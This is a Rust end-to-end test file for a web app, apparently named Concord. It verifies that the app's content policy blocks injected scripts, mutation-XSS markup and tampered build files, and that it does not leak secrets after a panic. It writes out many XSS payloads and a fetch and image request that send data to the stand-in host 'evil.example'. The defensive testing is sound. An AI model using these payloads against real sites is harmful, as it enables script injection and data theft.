//! What the page defends itself against, and what it shows when it cannot go on. Run by `cargo xtask test e2e`.
#![cfg(not(target_arch = "wasm32"))]
#![allow(
    clippy::unwrap_used,
    reason = "what is missing fails the test, and the line says where"
)]

mod support;

use std::fs;
use std::path::PathBuf;

use serde_json::json;
use support::nginx::{Extra, built_app};
use support::{Data, World, test_id, text};

/// Scripts that somebody got into the page do not run, and markup does not become elements.
#[tokio::test]
async fn injected_scripts_and_markup_do_nothing() {
    let world = World::start("injected_scripts").await;
    world.open("/").await;
    world.find("h1").await;
    for (what, script) in [
        (
            "an image with a handler",
            "document.body.innerHTML = '<img src=x onerror=\"window.hit = 1\">'",
        ),
        (
            "a frame",
            "document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc=\"x\"></iframe>')",
        ),
        (
            "a link that runs",
            "document.body.insertAdjacentHTML('beforeend', '<a href=\"javascript:hit=1\">x</a>')",
        ),
        (
            "a drawing that runs",
            "document.body.insertAdjacentHTML('beforeend', '<svg><animate onbegin=\"hit=1\"/></svg>')",
        ),
        (
            "a script's text",
            "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s)",
        ),
        (
            "a script's address",
            "const s = document.createElement('script'); s.src = '/x.js'; document.body.append(s)",
        ),
        ("evaluation", "eval('window.hit = 1')"),
        ("a new function", "new Function('window.hit = 1')()"),
        ("a timer's text", "setTimeout('window.hit = 1', 0)"),
        (
            "a handler's text",
            "document.body.setAttribute('onclick', 'window.hit = 1')",
        ),
        (
            "another policy",
            "trustedTypes.createPolicy('mine', { createHTML: it => it })",
        ),
    ] {
        // In a timer: what a driver runs itself is let off the rules on evaluation.
        let script = format!(
            "return new Promise(resolve => setTimeout(() => {{ try {{ {script}; resolve('done') }} catch (error) {{ resolve(error.name) }} }}))"
        );
        let came_of_it = world.run(&script).await;
        assert_ne!(came_of_it, json!("done"), "{what}");
    }
    // These are refused without an exception.
    world.run("const s = document.createElement('style'); s.textContent = 'h1 { display: none }'; document.head.append(s)").await;
    world.run("const i = document.createElement('img'); i.src = 'https://evil.example/?stolen'; document.body.append(i)").await;
    let sent = world
        .run("return fetch('https://evil.example/?stolen').then(() => 'sent', () => 'refused')")
        .await;
    assert_eq!(sent, json!("refused"));
    assert!(world.is_visible("h1").await);
    assert_eq!(world.run("return window.hit ?? null").await, json!(null));
    let violations = world.take_complaints().await;
    assert!(violations.len() >= 8, "{violations:#?}");
}

/// The policy by which Leptos makes its static parts: it takes nothing that is read as other elements than it seems.
#[tokio::test]
async fn markup_is_taken_only_where_it_is_what_it_seems() {
    let world = World::start("markup_that_seems").await;
    world.open("/").await;
    world.find("h1").await;
    for (is_taken, markup) in [
        (true, r#"<p title="a > b" class="x">Text &lt;b&gt;</p>"#),
        (
            true,
            r#"<!----><svg viewBox="0 0 1 1"><path d="M0 0"></path></svg>"#,
        ),
        (
            true,
            r#"<textarea>&lt;/textarea&gt;</textarea><a href="/x">x</a>"#,
        ),
        (
            false,
            r#"<textarea><p title="</textarea><img src=x>"></textarea>"#,
        ),
        (
            false,
            r#"<textarea><p title='</textarea><img src=x>'></textarea>"#,
        ),
        (
            false,
            r#"<title><p title="</title><iframe src=/x></iframe>"></title>"#,
        ),
        (
            false,
            r#"<svg><title><p title="</title><script>1</script>"></title></svg>"#,
        ),
        (
            false,
            r#"<textarea><p title="</textarea><meta http-equiv=refresh content=0>"></textarea>"#,
        ),
        (
            false,
            r#"<textarea><p title="</textarea><form><button formaction=//x>"></textarea>"#,
        ),
        (
            false,
            r#"<textarea><p title="</textarea><a href=javascript:1>"></textarea>"#,
        ),
        (false, r#"<textarea><p class=</textarea><img>></textarea>"#),
        (false, "<!--><img src=x>-->"),
        (false, "<!---><img src=x>-->"),
        (false, "<!-- --!><img src=x>-->"),
        (false, "<!-- > <img src=x> -->"),
        (false, "<![CDATA[<img src=x>]]>"),
        (false, "<?x <img src=x>?>"),
        (false, "<p a=`<img>`>"),
        (false, "<b/onclick=x>"),
        (false, "<img src=x>"),
        (false, "<noscript><p></noscript>"),
        (false, "<style>p{}</style>"),
    ] {
        let script = format!(
            "try {{ document.createElement('div').innerHTML = {}; return true }} catch {{ return false }}",
            serde_json::Value::from(markup)
        );
        assert_eq!(world.run(&script).await, json!(is_taken), "{markup}");
    }
    world.take_complaints().await;
}

/// A copy of the app in which a file of this kind has been changed after it was built.
fn tampered(name: &str, kind: &str) -> PathBuf {
    let folder = PathBuf::from(env!("CARGO_TARGET_TMPDIR"))
        .join("tampered")
        .join(name);
    let _ = fs::remove_dir_all(&folder);
    fs::create_dir_all(&folder).unwrap();
    for entry in fs::read_dir(built_app()).unwrap() {
        let file = entry.unwrap().path();
        let mut bytes = fs::read(&file).unwrap();
        let file_name = file.file_name().unwrap().to_string_lossy().into_owned();
        if file_name.starts_with("concord-") && file_name.ends_with(kind) {
            // An empty comment, an empty section: it would work all the same.
            bytes.extend_from_slice(if kind == ".js" { b"\n//\n" } else { &[0, 1, 0] });
        }
        fs::write(folder.join(file_name), bytes).unwrap();
    }
    folder
}

#[tokio::test]
async fn files_that_are_not_the_ones_that_were_built_are_not_run() {
    for kind in [".js", ".wasm"] {
        let name = format!("tampered_{}", &kind[1..]);
        let extra = Extra {
            dist: Some(tampered(&name, kind)),
            ..Extra::default()
        };
        let world = World::start_behind(&name, Data::default(), &extra).await;
        world.open("/").await;
        world.sees("Concord cannot start").await;
        assert!(!world.is_visible("nav").await, "{kind}");
        let violations = world.take_complaints().await;
        assert!(
            violations.iter().any(|line| line.contains("valid digest")),
            "{violations:?}"
        );
    }
}

#[tokio::test]
async fn after_a_panic_the_page_says_what_it_means_and_reloading_goes_on() {
    let world = World::start("after_a_panic").await;
    world.open("/demo").await;
    world.sees("Neither system has been read yet.").await;
    // The browser refuses what the app relies on, with words that must not get out.
    world
        .run("document.createElement = () => { throw new Error('ck_secret of Ada') }")
        .await;
    world.click(text("Mapping")).await;
    world.sees("Concord has stopped").await;
    world.sees_in("#stopped-where", ".rs:").await;
    world.screenshot("stopped").await;
    assert!(!world.page_text().await.contains("ck_secret"));
    let console = world.take_complaints().await.join("\n");
    assert!(!console.contains("ck_secret"), "{console}");
    world.click(text("Reload")).await;
    world.sees("Neither system has been read yet.").await;
}

/// Whoever registers in the webstore chooses what is shown here.
#[tokio::test]
async fn markup_in_customer_data_and_in_error_bodies_is_shown_as_text() {
    let world = World::start("markup_in_customer_data").await;
    let markup = "<img src=x onerror=alert(1)><b>Bob</b>";
    let edit = json!({"system": "company", "do": "add", "set": {
        "displayName": markup, "email": "bob@markup.example", "addressLine1": "<script>alert(1)</script>", "city": "Ulm",
    }});
    world.sandbox_post("/__sandbox/edit", &edit).await;
    world.open("/demo").await;
    world.sees("Neither system has been read yet.").await;
    world.open("/mapping").await;
    world.click(test_id("read-both")).await;
    world.type_into(test_id("search"), "bob@markup").await;
    world.sees(markup).await;
    let fault = json!({"kind": "status", "code": 500, "system": "webstore"});
    world.sandbox_post("/__sandbox/faults", &fault).await;
    world.open("/synchronise").await;
    world.click(test_id("preview")).await;
    world.find(test_id("what")).await;
    assert_eq!(world.count("img, script:not([src]), b").await, 0);
}
